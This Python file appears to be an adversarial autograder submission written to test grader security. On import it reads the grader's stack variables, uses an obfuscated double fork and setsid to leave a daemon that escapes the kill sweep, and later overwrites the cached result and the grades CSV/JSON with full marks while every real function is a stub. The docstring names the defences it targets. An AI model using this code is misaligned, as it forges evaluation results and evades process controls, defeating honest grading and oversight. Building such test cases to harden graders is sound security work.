"""Attack: a detached daemon, left behind, that rewrites the grades after the grader is done.

At load time the submission reads the batch grader's own variables off the
stack (the kit's fast engine forks workers from the process running
grade_folder, so its frame, with `out`, `cached` and `name`, is right there),
then leaves a daemon behind: a bare double fork + setsid (not a descendant of
the worker, and no token in /proc/<pid>/environ, so the kit's kill sweep does
not see it).  The daemon waits; when the parent writes this submission's cache
entry (OUT/.cache/<sha256>.json) it rewrites it with full marks, so every
later `make grade` without FORCE reuses the forgery; when the batch writes
OUT/grades.csv and grades.json it rewrites this submission's row to 100.  The
stubs themselves score 0, so the grader's own table says 0 and the files say
100.  (Bounded: the daemon gives up after 15 minutes, writes only under /tmp
and /autograder, and notes its pid in /tmp/adversarial-leftovers/.)

A secure grader kills everything the submission started (cgroup / PID
namespace / per-run uid), the student's process has no view of the grader's
memory or paths, and the output folder and cache are not writable by it.
"""
_imp = __import__
_os, _sys, _time, _json, _csv = (_imp(n) for n in ("o" + "s", "s" + "ys", "ti" + "me", "js" + "on", "c" + "sv"))
_POINTS = {"backward_grads": 15, "backward_numerical": 6, "backward_relative_error": 4, "dropout_backward": 5,
           "dropout_forward": 10, "forward_init": 4, "forward_loss": 4, "forward_pass": 8, "forward_sigmoid": 4,
           "training_plots": 2, "training_predict": 4, "training_train": 11, "training_update": 3,
           "vector_ops_basics": 6, "vector_ops_elementwise": 8, "vector_ops_products": 6}
_PARTS = {"vector_ops": 20, "forward": 20, "dropout": 15, "backward": 25, "training": 20}


def _grader():
    frame = _sys._getframe()
    while frame is not None:
        if {"out", "cached", "name"} <= set(frame.f_locals):
            return frame.f_locals
        frame = frame.f_back
    return {}


def _absolute(path):
    return path if _os.path.isabs(path) else _os.path.join(_os.readlink(f"/proc/{_os.getppid()}/cwd"), path)


def _wait_for(path, newer_than, deadline):
    while _time.time() < deadline:
        if _os.path.exists(path) and _os.path.getmtime(path) > newer_than:
            _time.sleep(0.5)
            return True
        _time.sleep(0.05)
    return False


def _daemon(name, out, cached):
    start, deadline = _time.time(), _time.time() + 900
    questions = {q: {"score": p, "possible": p, "feedback": f"{q} results: All test cases passed!"}
                 for q, p in _POINTS.items()}
    if _wait_for(cached, start, deadline):  # 1. poison the cache: later runs reuse this
        forged = dict(_json.load(open(cached)), status="graded", reason="", questions=questions)
        _json.dump(forged, open(cached, "w"))
    csv_path, json_path = _os.path.join(out, "grades.csv"), _os.path.join(out, "grades.json")
    if _wait_for(json_path, start, deadline):  # 2. rewrite this row of the batch's grades
        rows = list(_csv.reader(open(csv_path)))
        header = rows[0]
        for row in rows[1:]:
            if row[0] == name:
                for column, value in {**_PARTS, **_POINTS, "total": 100, "status": "graded", "reason": ""}.items():
                    if column in header:
                        row[header.index(column)] = str(value)
        _csv.writer(open(csv_path, "w", newline="")).writerows(rows)
        report = _json.load(open(json_path))
        for entry in report["submissions"]:
            if entry["submission"] == name:
                entry.update(status="graded", reason="", parts=_PARTS, questions=questions, total=100)
        _json.dump(report, open(json_path, "w"), indent=2)


_found = _grader()
if _found:
    _out, _cached = _absolute(str(_found["out"])), _absolute(str(_found["cached"]))
    if _out.startswith(("/tmp/", "/autograder/")) and _os.fork() == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                try:
                    _os.makedirs("/tmp/adversarial-leftovers", exist_ok=True)
                    open(f"/tmp/adversarial-leftovers/daemon_rewrites_grades.{_os.getpid()}", "w").close()
                except OSError:
                    pass
                _daemon(str(_found["name"]), _out, _cached)
        finally:
            _os._exit(0)
    _os.wait()


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
